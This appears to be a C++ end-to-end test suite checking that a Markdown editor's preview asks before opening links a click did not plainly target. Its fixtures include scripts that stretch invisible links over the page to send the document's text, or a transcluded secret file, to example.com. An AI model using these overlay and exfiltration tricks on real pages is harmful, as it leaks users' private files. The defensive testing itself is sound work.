// What a click in the preview of the program's document window opens: the
// links the document writes, where they lead from the document's real
// folder, at once; anything else a click leads to only after the user saw
// the whole address and said Open; and what cannot be opened is told.
#include <QDir>
#include <QFile>
#include <QImage>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include "e2e/application.h"
#include "e2e/new_user.h"
#include "e2e/preview_text.h"
#include "platform/runtime/alerts.h"
#include "support/qt_wait.h"
#include "support/stand_in_opener.h"
#include "webview/web_test_support.h"
#include "window/content/master_view_content.h"
#include "window/content/tzr_master_view.h"
#include "window/preview/smart_web_view.h"

using namespace std::chrono_literals;

namespace {

bool writeFile(const QString &path, const QByteArray &bytes) {
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
}

QString encoded(const QUrl &url) { return QString::fromUtf8(url.toEncoded()); }

}  // namespace

// doc/copy.md links to the sample one folder up, beside a namesake in its
// own folder, to a file that is not there, and to a search whose query has
// braces; its script lays an invisible link holding the document's text
// over the whole page.
TEST(PreviewLinksEndToEnd, AClickOpensWhatTheDocumentWritesWhereItLeadsAndAsksAboutTheRest) {
    StandInOpener &opener = StandInOpener::install();
    opener.clear();
    QTemporaryDir root;
    ASSERT_TRUE(QDir(root.path()).mkpath("doc"));
    ASSERT_TRUE(writeFile(root.filePath("sample.md"), "# The sample\n"));
    ASSERT_TRUE(writeFile(root.filePath("doc/sample.md"), "# A namesake\n"));
    const QString document = root.filePath("doc/copy.md");
    ASSERT_TRUE(writeFile(document, R"md(# Copy

Dear diary, nobody knows.

See [the sample](../sample.md) and [the lost one](../lost.md), or [search](https://example.com/find?q={diary}).

<script>
function cover() {
  var a = document.createElement('a');
  a.id = 'cover';
  a.href = 'https://example.com/?d=' + encodeURIComponent(document.querySelector('p').textContent);
  a.style.cssText = 'position:fixed;left:0;top:0;right:0;bottom:0;opacity:0';
  document.body.appendChild(a);
}
</script>
)md"));
    NewUser user(root.filePath("preferences.json"));
    platform::ScriptedAlerts alerts;
    {
        Application application(user.defaults(), TZRThemeController::standardLocations());
        SmartEditorDocument *opened = application.open(document);
        ASSERT_TRUE(opened);
        auto *content = dynamic_cast<TZRMasterView *>(opened->content());
        ASSERT_TRUE(content && content->webView());
        SmartWebView &preview = *content->webView();
        ASSERT_TRUE(previewShows(&preview, "Dear diary"));
        ASSERT_TRUE(previewSettles(&preview));

        // The link out of the folder opens the file it names, not the one
        // of the same name beside the document.
        ASSERT_TRUE(web_test::clickElement(preview, "a[href=\"../sample.md\"]"));
        ASSERT_TRUE(testing_qt::spinUntil([&] { return !opener.calls().isEmpty(); }, 20s));
        EXPECT_EQ(opener.calls(), QStringList{encoded(QUrl::fromLocalFile(root.filePath("sample.md")))});
        EXPECT_EQ(alerts.count(), 0);

        // One whose address the page and the engine escape differently.
        ASSERT_TRUE(web_test::clickElement(preview, "a[href^=\"https://example.com/find\"]"));
        ASSERT_TRUE(testing_qt::spinUntil([&] { return opener.calls().size() == 2; }, 20s));
        EXPECT_EQ(opener.calls().last(), "https://example.com/find?q=%7Bdiary%7D");
        EXPECT_EQ(alerts.count(), 0);

        // One that leads nowhere is told, once.
        ASSERT_TRUE(web_test::clickElement(preview, "a[href=\"../lost.md\"]"));
        ASSERT_TRUE(testing_qt::spinUntil([&] { return alerts.count() == 1; }, 20s));
        testing_qt::spinFor(500ms);
        ASSERT_EQ(alerts.count(), 1);
        EXPECT_EQ(alerts.shown()[0].messageText, "Not Opened");
        EXPECT_TRUE(alerts.shown()[0].informativeText.contains(encoded(QUrl::fromLocalFile(root.filePath("lost.md")))))
            << alerts.shown()[0].informativeText.toStdString();
        EXPECT_EQ(opener.calls().size(), 2);

        // A click on the text under the script's link asks first, with the
        // whole address: Cancel opens nothing, Open opens it.
        web_test::evaluate(preview, "cover()");
        const QString cover = "https://example.com/?d=Dear%20diary%2C%20nobody%20knows.";
        alerts.addAnswers({1, 0});
        ASSERT_TRUE(web_test::clickElement(preview, "h1"));
        ASSERT_TRUE(testing_qt::spinUntil([&] { return alerts.count() == 2; }, 20s));
        testing_qt::spinFor(1s);
        EXPECT_EQ(opener.calls().size(), 2);
        ASSERT_TRUE(web_test::clickElement(preview, "h1"));
        ASSERT_TRUE(testing_qt::spinUntil([&] { return opener.calls().size() == 3; }, 20s));
        EXPECT_EQ(opener.calls().last(), cover);
        ASSERT_EQ(alerts.count(), 3);
        for (int i : {1, 2}) {
            EXPECT_EQ(alerts.shown()[i].messageText, "Open this address?");
            EXPECT_EQ(alerts.shown()[i].informativeText, cover);
            EXPECT_EQ(alerts.shown()[i].buttons, QStringList({"Open", "Cancel"}));
        }
    }
}

// With transclusion on, a document's raw HTML writes a link whose address
// holds a file of the user's, taken in ("{{...}}"), and its script stretches
// that link over the page, nearly transparent. A click on plain text asks,
// with the whole address, and Cancel opens nothing; a click on the link's
// own text asks too, for its address may hold any file's text. With
// transclusion off, the same link, plainly shown, opens at once.
TEST(PreviewLinksEndToEnd, AClickAsksBeforeAnAddressThatMayHoldAnotherFilesText) {
    StandInOpener &opener = StandInOpener::install();
    opener.clear();
    QTemporaryDir root;
    ASSERT_TRUE(QDir(root.path()).mkpath("secret") && QDir(root.path()).mkpath("notes/doc"));
    ASSERT_TRUE(writeFile(root.filePath("secret/secret.txt"), "TOPSECRET-42"));
    const QString document = root.filePath("notes/doc/notes.md");
    ASSERT_TRUE(writeFile(document, R"md(# Notes

Dear diary, nobody knows.

<a id="more" href="https://example.com/t?d={{../../secret/secret.txt}}">more</a>

<script>
function stretch(on) {
  document.getElementById('more').style.cssText =
    on ? 'position:fixed;left:0;top:0;right:0;bottom:0;opacity:0.01' : '';
}
stretch(true);
</script>
)md"));
    NewUser user(root.filePath("preferences.json"));
    user.defaults().setBool(true, "EXT_TRANSCLUDE");
    platform::ScriptedAlerts alerts;
    {
        Application application(user.defaults(), TZRThemeController::standardLocations());
        SmartEditorDocument *opened = application.open(document);
        ASSERT_TRUE(opened);
        auto *content = dynamic_cast<TZRMasterView *>(opened->content());
        ASSERT_TRUE(content && content->webView());
        SmartWebView &preview = *content->webView();
        ASSERT_TRUE(previewShows(&preview, "Dear diary"));
        const QString address = "https://example.com/t?d=TOPSECRET-42";
        ASSERT_EQ(web_test::evaluateText(preview, "document.getElementById('more').href"), address);

        alerts.addAnswers({1, 1});
        ASSERT_TRUE(web_test::clickElement(preview, "h1"));
        ASSERT_TRUE(testing_qt::spinUntil([&] { return alerts.count() == 1; }, 20s));
        web_test::evaluate(preview, "stretch(false)");
        ASSERT_TRUE(web_test::clickElement(preview, "#more"));
        ASSERT_TRUE(testing_qt::spinUntil([&] { return alerts.count() == 2; }, 20s));
        testing_qt::spinFor(1s);
        EXPECT_EQ(opener.calls(), QStringList());
        for (const platform::Alert &alert : alerts.shown()) {
            EXPECT_EQ(alert.messageText, "Open this address?");
            EXPECT_EQ(alert.informativeText, address);
            EXPECT_EQ(alert.defaultButton, 1);
        }

        // Transclusion off: the link, written by the document and plainly
        // shown, opens at once.
        user.defaults().setBool(false, "EXT_TRANSCLUDE");
        ASSERT_TRUE(testing_qt::spinUntil(
            [&] { return previewText(&preview).contains("more") && !previewText(&preview).contains("TOPSECRET"); },
            30s));
        web_test::evaluate(preview, "stretch(false)");
        ASSERT_TRUE(web_test::clickElement(preview, "#more"));
        ASSERT_TRUE(testing_qt::spinUntil([&] { return opener.calls().size() == 1; }, 20s));
        EXPECT_EQ(opener.calls().last(), "https://example.com/t?d=%7B%7B../../secret/secret.txt%7D%7D");
        EXPECT_EQ(alerts.count(), 2);
    }
}

// With transclusion off, the document's raw HTML writes a link around a
// clear picture beside it, which its script lays over the whole window: the
// user sees only the page's text, and a click there asks, with the whole
// address, and Cancel opens nothing. The document's own link, plainly shown,
// opens at once.
TEST(PreviewLinksEndToEnd, AClickOnALinkOfAClearPictureLaidOverThePageAsks) {
    StandInOpener &opener = StandInOpener::install();
    opener.clear();
    QTemporaryDir root;
    QImage clear(8, 8, QImage::Format_ARGB32);
    clear.fill(Qt::transparent);
    ASSERT_TRUE(clear.save(root.filePath("clear.png"), "PNG"));
    const QString document = root.filePath("notes.md");
    ASSERT_TRUE(writeFile(document, R"md(# Notes

Dear diary, nobody knows. See [the site](https://example.com/site).

<a id="cover" href="https://example.com/cover?d=diary" style="display: none"><img alt="" src="clear.png" style="position: fixed; left: 0; top: 0; width: 100%; height: 100%"></a>

<script>
function cover() { document.getElementById('cover').style.display = 'inline'; }
</script>
)md"));
    NewUser user(root.filePath("preferences.json"));
    platform::ScriptedAlerts alerts;
    {
        Application application(user.defaults(), TZRThemeController::standardLocations());
        SmartEditorDocument *opened = application.open(document);
        ASSERT_TRUE(opened);
        auto *content = dynamic_cast<TZRMasterView *>(opened->content());
        ASSERT_TRUE(content && content->webView());
        SmartWebView &preview = *content->webView();
        ASSERT_TRUE(previewShows(&preview, "Dear diary"));
        // Clicked once the page has taken what was on its way to it (a
        // click on a page being replaced goes nowhere).
        ASSERT_TRUE(previewSettles(&preview));

        ASSERT_TRUE(web_test::clickElement(preview, "a[href=\"https://example.com/site\"]"));
        ASSERT_TRUE(testing_qt::spinUntil([&] { return opener.calls().size() == 1 || alerts.count() > 0; }, 60s));
        EXPECT_EQ(opener.calls(), QStringList{"https://example.com/site"});
        EXPECT_EQ(alerts.count(), 0);

        web_test::evaluate(preview, "cover()");
        ASSERT_TRUE(testing_qt::spinUntil(
            [&] { return web_test::evaluate(preview, "document.querySelector('#cover img').complete").toBool(); },
            20s));
        alerts.addAnswers({1});
        ASSERT_TRUE(web_test::clickElement(preview, "h1"));
        ASSERT_TRUE(testing_qt::spinUntil([&] { return alerts.count() == 1 || opener.calls().size() > 1; }, 20s));
        testing_qt::spinFor(1s);
        EXPECT_EQ(opener.calls(), QStringList{"https://example.com/site"});
        ASSERT_EQ(alerts.count(), 1);
        EXPECT_EQ(alerts.shown()[0].messageText, "Open this address?");
        EXPECT_EQ(alerts.shown()[0].informativeText, "https://example.com/cover?d=diary");
        EXPECT_EQ(alerts.shown()[0].defaultButton, 1);
    }
}
